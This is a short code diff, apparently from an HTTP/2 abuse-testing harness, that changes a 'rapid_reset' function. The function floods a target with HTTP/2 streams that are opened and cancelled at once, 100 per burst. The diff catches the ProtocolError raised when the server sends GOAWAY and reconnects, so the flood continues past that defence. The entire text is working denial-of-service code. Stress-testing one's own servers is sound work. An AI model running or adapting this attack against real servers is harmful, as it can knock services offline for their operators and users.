@@ -4,6 +4,7 @@ import asyncio
 import time
 
 from h2.errors import ErrorCodes
+from h2.exceptions import ProtocolError
 
 from abuse.attacker import RawClient, request_headers
 from abuse.harness import Attack, Target
@@ -19,10 +20,13 @@ async def rapid_reset(target: Target, seconds: float) -> None:
             if not client.alive:
                 await client.close()
                 client = await RawClient.connect(target)
-            for _ in range(100):
-                stream_id = client.h2.get_next_available_stream_id()
-                client.h2.send_headers(stream_id, request_headers(target))
-                client.h2.reset_stream(stream_id, ErrorCodes.CANCEL)
+            try:
+                for _ in range(100):
+                    stream_id = client.h2.get_next_available_stream_id()
+                    client.h2.send_headers(stream_id, request_headers(target))
+                    client.h2.reset_stream(stream_id, ErrorCodes.CANCEL)
+            except ProtocolError:  # the server's GOAWAY arrived: a new connection
+                client.closed.set()
             await client.flush()
             await asyncio.sleep(0)
     finally:
